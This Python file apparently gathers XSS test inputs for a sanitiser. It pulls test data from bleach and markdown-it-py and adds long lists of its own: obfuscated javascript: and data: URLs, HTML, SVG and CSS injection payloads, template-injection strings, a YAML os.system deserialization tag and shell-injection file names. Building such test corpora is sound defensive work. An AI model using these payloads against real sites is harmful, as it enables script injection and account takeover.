"""Texts that attack pages: those of libraries that sanitise HTML and Markdown, read from their sources on PyPI, and our
own list.

    attack_vectors.py [FOLDER]    lists all of them; FOLDER keeps the downloads (default .build/xss)
"""
import ast, pathlib, re, subprocess, sys, textwrap

PROJECT = pathlib.Path(__file__).resolve().parents[3]
SOURCES = {"bleach": "bleach==6.4.0", "markdown-it": "markdown-it-py==4.3.0"}


def fetch(folder):
    """The folders of the unpacked sources, by name."""
    folder.mkdir(parents=True, exist_ok=True)
    found = {}
    for name, requirement in SOURCES.items():
        project, version = requirement.split("==")
        unpacked = folder / f"{project.replace('-', '_')}-{version}"
        if not unpacked.is_dir():
            subprocess.run([sys.executable, "-m", "pip", "download", "--quiet", "--disable-pip-version-check", "--no-deps",
                            "--no-binary", ":all:", "--dest", folder, requirement], check=True)
            subprocess.run(["tar", "-xzf", folder / f"{unpacked.name}.tar.gz", "-C", folder], check=True)
        found[name] = unpacked
    return found


def bleach(folder):
    """The input of its data tests, and every text in its other tests that has a character with a meaning."""
    texts = []
    for file in sorted((folder / "tests/data").glob("*.test"), key=lambda file: int(file.stem)):
        texts.append(file.read_text(encoding="utf-8").split("\n--\n")[0])
    if len(texts) < 20:
        raise SystemExit(f"{folder} has {len(texts)} data tests")
    for file in sorted((folder / "tests").glob("*.py")):
        tree = ast.parse(file.read_text(encoding="utf-8"))
        comments = {id(node.body[0].value) for node in ast.walk(tree)
                    if isinstance(node, (ast.FunctionDef, ast.ClassDef, ast.Module)) and isinstance(node.body[:1] and node.body[0], ast.Expr)}
        texts += [node.value for node in ast.walk(tree) if isinstance(node, ast.Constant) and isinstance(node.value, str)
                  and id(node) not in comments and re.search(r"[<>&\"'():;\\%]|[^\x20-\x7e]", node.value)]
    return texts


def markdown_it(folder):
    """Its cases about links, and CommonMark's examples of raw HTML, autolinks and links; each case and each of its
    paragraphs."""
    fixtures = folder / "tests/test_port/fixtures"
    # A case is "." / input / "." / output / ".".
    cases = lambda name: re.findall(r"(?ms)^\.\n(.*?)\n?^\.\n.*?^\.$", (fixtures / name).read_text(encoding="utf-8"))
    links = cases("xss.md")
    if len(links) < 10:
        raise SystemExit(f"{folder} has {len(links)} cases in xss.md")
    texts = links + [part for case in links for part in case.split("\n\n")]
    specification = [case.replace("→", "\t") for case in cases("commonmark_spec.md")]
    return texts + [case for case in specification if re.search(r"<[A-Za-z!?/]|javascript|\]\(|\]: |&[a-z#]", case)]


# The replacement of X reports that it ran; see xss.py.
SCHEMES = r'''
javascript:X
JaVaScRiPt:X
javascript&colon;X
javascript&#58;X
javascript&#x3a;X
javascript&#x0000003A;X
&#106;avascript:X
&#x6a;avascript:X
&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058X
java&Tab;script:X
java&NewLine;script:X
java&#9;script:X
java&#10;script:X
java&#13;script:X
java&#x09;script:X
java\tscript:X
java\nscript:X
java\rscript:X
\tjavascript:X
\njavascript:X
\x01javascript:X
\x08javascript:X
\x1fjavascript:X
\x7fjavascript:X
\x85javascript:X
\xa0javascript:X
\xadjavascript:X
java\xadscript:X
java\x00script:X
javascript\x00:X
javascript\t:X
javascript :X
 javascript:X
\u2028javascript:X
\u200bjavascript:X
java\u200bscript:X
\ufeffjavascript:X
\u202ejavascript:X
\u2066javascript:X\u2069
javascript%3aX
%6aavascript:X
javascript%0a:X
javascript:%0aX
javascript:%0dX
javascript:%u000aX
javascript://%0aX
javascript://https://example.org/%0aX
javascript://example.org/?%0d%0aX//
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+X//'>
javascript:"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><html onmouseover=X>//
javascript\:X
java\\script:X
\\javascript:X
\&#106;avascript:X
&amp;#106;avascript:X
ｊａｖａｓｃｒｉｐｔ:X
javascript：X
javascript︓X
jаvascript:X
javaſcript:X
javascrıpt:X
JAVASCRİPT:X
javascript\u0338:X
feed:javascript:X
view-source:javascript:X
view-source:https://example.org/
vbscript:msgbox(1)
VbScRiPt:msgbox(1)
livescript:X
mocha:X
data:text/html,<script>X</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:text/html;charset=utf-8,%3Cscript%3EX%3C/script%3E
data:,X
DATA:text/html,<script>X</script>
data&colon;text/html,<script>X</script>
dat\ta:text/html,<script>X</script>
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='X'/>
data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=
data:text/xml,<script xmlns="http://www.w3.org/1999/xhtml">X</script>
data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">X</script>
data:image/gif;base64,R0lGODlhAQABAAAAACw=
data:text/javascript,X
data:text/css,*{background:url(//xss.invalid/css)}
blob:https://example.org/9115d58c-bcda-ff47-86e5-083e9a215304
blob:null/9115d58c
filesystem:https://example.org/temporary/x.html
filesystem:null
file:///etc/passwd
file://localhost/etc/passwd
FILE:/etc/passwd
about:blank
about:srcdoc
chrome://settings
chrome-extension://x/y.html
resource://gre/
jar:https://example.org/x.jar!/x.html
ms-msdt:/id PCWDiagnostic
ms-word:ofe|u|https://xss.invalid/
intent://x#Intent;scheme=javascript;end
android-app://x/y
tel:+123456
sms:+123456
ftp://xss.invalid/
gopher://xss.invalid/
ws://xss.invalid/
wss://xss.invalid/
mailto:
mailto:a@example.org?subject=<script>X</script>
mailto:a@example.org?body=%0d%0aBcc:b@example.org
mailto:"><script>X</script>
x-schema:X
unknown:X
a:X
:X
://xss.invalid/
//xss.invalid/x
///xss.invalid/x
////xss.invalid/x
/\\xss.invalid/x
\\\\xss.invalid\\x
\\/xss.invalid/x
/\t/xss.invalid/x
\t//xss.invalid/x
/&#9;/xss.invalid/x
/&#47;xss.invalid/x
&sol;&sol;xss.invalid/x
&#x2f;&#x2f;xss.invalid/x
.//xss.invalid/x
..//xss.invalid/x
/.//xss.invalid/x
%2f%2fxss.invalid/x
%5c%5cxss.invalid/x
／／xss.invalid/x
⁄⁄xss.invalid/x
http:xss.invalid/x
https:xss.invalid/x
http:/xss.invalid/x
https:/xss.invalid/x
http:\\xss.invalid/x
https:///xss.invalid/x
https://
https://?x
https:// xss.invalid/
https://example.org@xss.invalid/
https://example.org:80@xss.invalid/
https://example.org\\@xss.invalid/
https://user:password@xss.invalid/
https://xss.invalid\u2044example.org/
https://xss。invalid/
https://ехample.org/
https://xn--80ak6aa92e.com/
https://example.org/\u202egpj.exe
https://example.org/"onmouseover="X
https://example.org/'onmouseover='X
https://example.org/`onmouseover=`X
https://example.org/" autofocus onfocus="X
https://example.org/"><script>X</script>
https://example.org/'><script>X</script>
https://example.org/><img src=x onerror=X>
https://example.org/\" onclick=\"X
https://example.org/&quot; onmouseover=&quot;X
https://example.org/&#34; onmouseover=&#34;X
https://example.org/%22onmouseover=%22X
https://example.org/?q=<script>X</script>
https://example.org/#<img src=x onerror=X>
https://example.org/\r\nLocation: https://xss.invalid/
https://[::1]"onmouseover="X
../../../../etc/passwd
..%2f..%2fetc/passwd
..\\..\\etc\\passwd
%2e%2e/%2e%2e/etc/passwd
/etc/passwd
/
.
..
?x="onmouseover="X
#"onmouseover="X
#<script>X</script>
#javascript:X
#:~:text=x
#%00
?javascript:X
./javascript:X
./x:y
x/javascript:X
'''.strip("\n").split("\n")

MARKUP = r'''
<script>X</script>
<SCRIPT>X</SCRIPT>
<ScRiPt >X</sCrIpT >
<script/x>X</script>
<script\n>X</script\n>
<script src=//xss.invalid/x.js></script>
<script src="data:text/javascript,X"></script>
<script type=module>X</script>
<script>X
<script>X<!--
<<script>X//<</script>
<scr<script>ipt>X</scr</script>ipt>
</script><script>X</script>
"></script><script>X</script>
';X//
";X//
\';X//
\";X;//
</title><script>X</script>
</textarea><script>X</script>
</style><script>X</script>
</template><script>X</script>
</noscript><script>X</script>
</xmp><script>X</script>
</iframe><script>X</script>
</noembed><script>X</script>
</head><body onload=X>
</body></html><script>X</script>
<!--><script>X</script>-->
<!---><script>X</script>-->
--><script>X</script><!--
--!><script>X</script>
<!--
<!-- --!> <img src=x onerror=X> -->
<![CDATA[<script>X</script>]]>
]]><script>X</script>
]]>
<?xml version="1.0"?><script>X</script>
<?php X ?>
<!DOCTYPE html [<!ENTITY x "<script>X</script>">]>&x;
<!ENTITY x SYSTEM "file:///etc/passwd">
&x;
&lol;
&lt;script&gt;X&lt;/script&gt;
&#60;script&#62;X&#60;/script&#62;
&#x3c;script&#x3e;X&#x3c;/script&#x3e;
&amp;lt;script&amp;gt;X&amp;lt;/script&amp;gt;
%3Cscript%3EX%3C/script%3E
＜script＞X＜/script＞
\u2039script\u203aX\u2039/script\u203a
\xc0\xbcscript\xc0\xbeX
<img src=x onerror=X>
<img src=x onerror="X">
<img/src=x/onerror=X>
<img src=x onerror\x0b=X>
<img src=x onerror\x0c=\x0cX>
<img src=x:x onerror=X//
<img src="javascript:X">
<img """><script>X</script>">
<img src=`x`onerror=X>
<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
<img srcset=//xss.invalid/a,x onerror=X>
<img src=//xss.invalid/i>
<image src=x onerror=X>
<input autofocus onfocus=X>
<input type=image src=x onerror=X>
<button onclick=X>x</button>
<select autofocus onfocus=X>
<textarea autofocus onfocus=X>
<keygen autofocus onfocus=X>
<video src=x onerror=X>
<video><source onerror=X>
<video poster=javascript:X>
<audio src=x onerror=X>
<details open ontoggle=X>x
<dialog open onclose=X>x
<marquee onstart=X>x
<body onload=X>
<body onpageshow=X>
<body/onhashchange=X><a href=#x>click</a>
<body style="height:9999px" onscroll=X>
<body background=//xss.invalid/b>
<bgsound src=javascript:X>
<svg onload=X>
<svg/onload=X>
<svg><script>X</script></svg>
<svg><script href="data:text/javascript,X"/></svg>
<svg><script>&#97;lert(1)</script></svg>
<svg><a xlink:href="javascript:X"><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:X /><text y=20>x</text></a></svg>
<svg><animate onbegin=X attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=X>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:X'><rect width='9' height='9'/></a></svg>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>X</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=X></style></svg>
<svg><desc><![CDATA[</desc><script>X</script>]]></svg>
<math><mtext><table><mglyph><style><img src=x onerror=X>
<math><mi//xlink:href="data:x,<script>X</script>">
<math href="javascript:X">x</math>
<math><annotation-xml encoding="text/html"><script>X</script></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=X>
<noscript><p title="</noscript><img src=x onerror=X>">
<p title="</p><script>X</script>">x</p>
<table background=javascript:X><td>x
<iframe src=javascript:X>
<iframe srcdoc="<script>X</script>">
<iframe src="data:text/html,<script>parent.X</script>">
<iframe src=//xss.invalid/f>
<frameset onload=X>
<frameset><frame src=javascript:X></frameset>
<object data=javascript:X>
<object data="data:text/html,<script>X</script>">
<object type="text/x-scriptlet" data="//xss.invalid/o">
<embed src=javascript:X>
<embed src=//xss.invalid/e>
<applet code=X>
<base href="javascript:/a/-X//">
<base href=//xss.invalid/>
<base target=_blank>
<link rel=stylesheet href=//xss.invalid/l.css>
<link rel=stylesheet href="data:text/css,*{x:expression(X)}">
<link rel=import href="data:text/html,<script>X</script>">
<link rel=preload as=script href=//xss.invalid/p.js>
<link rel=prefetch href=//xss.invalid/p>
<link rel=dns-prefetch href=//xss.invalid>
<meta http-equiv=refresh content="0;url=javascript:X">
<meta http-equiv=refresh content="0;url=data:text/html,<script>X</script>">
<meta http-equiv=refresh content="0;url=//xss.invalid/">
<meta http-equiv=set-cookie content="x=X">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta charset=utf-7>
+ADw-script+AD4-X+ADw-/script+AD4-
<style>@import '//xss.invalid/i.css'</style>
<style>*{background:url(//xss.invalid/s)}</style>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=X>x</p>
<p style="animation:x" onanimationend=X>x
<p style="background:url(javascript:X)">x</p>
<p style="background:url(//xss.invalid/p)">x</p>
<p style="x:expression(X)">x</p>
<p style="-moz-binding:url(//xss.invalid/m)">x</p>
<p style=x:\65xpression(X)>x</p>
<p onmouseover=X>x</p>
<p onmouseover="X">x</p>
<p onmouseover='X'>x</p>
<p onclick=X tabindex=1 autofocus onfocus=X>x</p>
<p id=x tabindex=1 onfocus=X></p><a href=#x>x</a>
<p contenteditable autofocus onfocus=X>x</p>
<p popover id=q onbeforetoggle=X>x</p><button popovertarget=q>x</button>
<p draggable=true ondrag=X>x</p>
<x onclick=X>x</x>
<x-y onpointerenter=X style=display:block>x</x-y>
<b onmouseover=X>x</b>
<b/onmouseover=X>x</b>
<b\tonmouseover=X>x</b>
<b\x0bonmouseover=X>x</b>
<b \x00onmouseover=X>x</b>
<b "onmouseover=X" x>x</b>
<i onmouseover=X class="x>x</i>
<br onmouseover=X>
<br/onmouseover=X/>
<wbr onmouseover=X>
<kbd style="position:fixed;inset:0" onmouseover=X>x</kbd>
<mark onmouseover=X>x</mark>
<sub onmouseover=X>x</sub>
<a href="javascript:X">x</a>
<a href=javascript:X>x</a>
<a href="java\tscript:X">x</a>
<a href="&#106;avascript:X">x</a>
<a href="  javascript:X">x</a>
<a href="\x01javascript:X">x</a>
<a href="data:text/html,<script>X</script>">x</a>
<a href="https://example.org/" onclick=X>x</a>
<a href="https://example.org/" ping=//xss.invalid/ping>x</a>
<a href="https://example.org/" target=x style="position:fixed;inset:0">x</a>
<a name=x onfocus=X href=#>x</a>
<a id=location href=x>x</a><a id=location name=href href=javascript:X>x</a>
<form action=javascript:X><input type=submit></form>
<form action=//xss.invalid/><input name=x autofocus></form>
<form id=x></form><button form=x formaction=javascript:X>x</button>
<isindex type=image src=x onerror=X>
<template><script>X</script></template>
<template shadowrootmode=open><script>X</script></template>
<slot onslotchange=X></slot>
<portal src=//xss.invalid/>
<fencedframe src=//xss.invalid/>
<plaintext>
<xmp><p title="</xmp><script>X</script>">
<title onmouseover=X>x
<html onmouseover=X>
<isindex onmouseover=X>
"onmouseover=X x="
'onmouseover=X x='
`onmouseover=X x=`
" onmouseover=X "
" autofocus onfocus=X tabindex=1 x="
' autofocus onfocus=X tabindex=1 x='
"><script>X</script>
'><script>X</script>
\"><script>X</script>
"/><script>X</script>
"><img src=x onerror=X>
'><img src=x onerror=X>
x" onerror="X
x' onerror='X
x onerror=X
" style="animation-name:x" onanimationstart="X
" class="card" id="x
" id="location
<li class="card" id="other/card"><article>x</article></li>
</li></ul></section><script>X</script>
</p></div></article></li></ul><script>X</script>
</code></pre><script>X</script>
</bdi></span><script>X</script>
'''.strip("\n").split("\n")

STYLES = r'''
</style><script>X</script>
}*{background:url(//xss.invalid/s)}
;background:url(//xss.invalid/s)
red;}body{display:none
@import url(//xss.invalid/i.css);
@import '//xss.invalid/i.css';
@font-face{font-family:x;src:url(//xss.invalid/f)}
@namespace "x";
/*
*/*{display:none}/*
\7d *{display:none}
\\7d *{display:none}
"}*{display:none}
'}*{display:none}
")}*{display:none}
url(javascript:X)
expression(X)
#x{color:red}
.card{display:none}
.w9999{display:none}
:root{--page:red}
b1f
r3
card shelf hidden
x{}
{}
{
}
a{b}c
a;b
a,b
a>b
a+b
a~b
a\\b
a.b.c
a:hover
a::before
a[href]
a/b
1a
-1a
--a
-
_
é
\U0001F600
'''.strip("\n").split("\n")

TEMPLATES = r'''
{{title}}
{{{title}}}
{{&title}}
{{{siteTitle}}}
{{#shelves}}x{{/shelves}}
{{^shelves}}x{{/shelves}}
{{> page}}
{{>page}}
{{< page}}x{{/page}}
{{$x}}x{{/x}}
{{! comment }}
{{=<% %>=}}<% title %>
{{{shelves}}}
{{{titleMarkup}}}
{{{introduction}}}
{{lambda}}
{{#.}}
{{.}}
{{
}}
{{{
}}}
{{{<script>X</script>}}}
${X}
#{X}
<%= X %>
{% X %}
[[X]]
'''.strip("\n").split("\n")

CHARACTERS = r'''
\u2028<script>X</script>
\u2029<script>X</script>
a\u2028b
a\u2029b
a\x85b
a\x0bb
a\x0cb
\ufeff<script>X</script>
\x00<script>X</script>
<\x00script>X</script>
<scr\x00ipt>X</script>
\ufffe<script>X</script>
\uffff
\ufffd
\U0010ffff
\ue000<script>X</script>
\U000e0041\U000e007f
\x1b[31mred\x1b[0m
\x1b]0;title\x07
\x1b]8;;https://xss.invalid/\x1b\\link\x1b]8;;\x1b\\
\x08\x08\x08x
\x7f
\x9b31m
\r\nx
\u202e<script>X</script>
\u202etpircs\u202c
\u202d\u202e\u202a\u202b
\u2066\u2067\u2068
\u2069\u2069\u2069
\u202c\u202c\u202c
\u061c\u200e\u200f
\u200b\u200c\u200d\u2060
e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301
ﷺ﷽
\u0600\u0601\u06dd
نص "onmouseover=X
שלום <script>X</script>
\u1160\u3164\uffa0
\u034f\u180e
İ<ſcript>X</ſcript>
<ﬀ onmouseover=X>
ʼonmouseover=X
＂onmouseover=X
＇onmouseover=X
‹img src=x onerror=X›
'''.strip("\n").split("\n")

# In Markdown and in the fields around it.
NOTATION = r'''
[x](javascript:X)
[x](<javascript:X>)
[x](java&#115;cript:X)
[x]( javascript:X )
[x](\njavascript:X)
[x](javascript:X "t")
[x](https://example.org/ "\"onmouseover=X")
[x](https://example.org/ '"onmouseover=X x="')
[x](https://example.org/"onmouseover="X)
[x](<https://example.org/ onmouseover=X>)
[x][y]\n\n[y]: javascript:X
[x][y]\n\n[y]: https://example.org/ '"onmouseover=X'
[y]\n\n[y]: <javascript:X>
[<script>X</script>](https://example.org/)
[![x](x)](javascript:X)
![x](javascript:X)
![x](x"onerror="X)
!["onerror="X](x)
![x](x '"onerror=X x="')
![<script>X</script>](x)
![x](//xss.invalid/i.png)
![x](https://xss.invalid/i.png)
![x](data:image/svg+xml,<svg/onload=X>)
<javascript:X>
<https://example.org/"onmouseover="X>
<data:text/html,<script>X</script>>
<a@example.org"onmouseover="X>
<x:X>
```"onmouseover="X\nx\n```
```<script>X</script>\nx\n```
```x" onmouseover="X\nx\n```
~~~ {onmouseover=X}\nx\n~~~
```\n</code></pre><script>X</script>\n```
`<script>X</script>`
``` `</code><script>X</script>` ```
    <script>X</script>
> <script>X</script>
- <script>X</script>
# <script>X</script> {onclick=X}
# x {#x" onmouseover="X}
<div>\n*<script>X</script>*\n</div>
<div markdown="1">[x](javascript:X)</div>
<!-- [x](javascript:X) -->\n[x](javascript:X)
*<b onmouseover=X>x*</b>
**<script>**X**</script>**
\\<script>X\\</script>
\\[x](javascript:X)
&lt;script&gt;X&lt;/script&gt;
~~<script>X</script>~~
| <script>X</script> |\n|-|\n| <img src=x onerror=X> |
$<script>X</script>$
[^1]\n\n[^1]: <script>X</script>
[x]{onmouseover=X}
![x](x){onerror=X}
{{< raw >}}<script>X</script>{{< /raw >}}
{% raw %}<script>X</script>{% endraw %}
+++\ntitle = "<script>X</script>"\n+++
---\ntitle: <script>X</script>\n---
title: <script>X</script>
"\ntitle: "<script>X</script>
!!python/object/apply:os.system ["x"]
!<tag:yaml.org,2002:js/function> "function(){X}"
&a [*a,*a]
*a
<<: *a
? x\n: y
- [x
{x: y
| \n x
> \n x
%YAML 1.1
@x
`x`
~
null
yes
0x1F
1e999
.inf
2001-01-01
'''.strip("\n").split("\n")

NAMES = r'''
index.html
_index
_index.md
.hidden
..
...
CON
NUL.md
-rf
--help
$(X)
`X`
;X;
|X
a\nb
a\x1b[2Jb
\u202egpj.exe
x.html
x.php
layout.json
assets
fonts
compare
title
a/title
__proto__
constructor
prototype
toString
location
document
'''.strip("\n").split("\n")


def own():
    """Our list, written with escapes as in Python."""
    texts = []
    for line in SCHEMES + MARKUP + STYLES + TEMPLATES + CHARACTERS + NOTATION + NAMES:
        text = re.sub(r"\\(?:x[0-9a-f]{2}|u[0-9a-f]{4}|U[0-9a-f]{8}|[\\trn\"'])", lambda match: ast.literal_eval(f'"{match[0]}"'), line)
        texts.append(re.sub(r"(?<![A-Z])X(?![A-Z])", "alert(1)", text))
    return texts


def all_vectors(folder=PROJECT / ".build/xss"):
    """Each text once, with its source; those of our list come first."""
    sources = fetch(folder)
    found = {}
    for origin, texts in [("own", own()), ("bleach", bleach(sources["bleach"])), ("markdown-it", markdown_it(sources["markdown-it"]))]:
        for text in texts:
            if text.strip():
                found.setdefault(text, origin)
    return [(origin, text) for text, origin in found.items()]


if __name__ == "__main__":
    if "-h" in sys.argv or "--help" in sys.argv:
        print(textwrap.dedent(__doc__).strip())
        sys.exit()
    counts = {}
    for origin, text in all_vectors(*map(pathlib.Path, sys.argv[1:2])):
        counts[origin] = counts.get(origin, 0) + 1
        print(f"{origin}: {text.encode('unicode_escape').decode()}")
    print(", ".join(f"{count} from {origin}" for origin, count in counts.items()), file=sys.stderr)
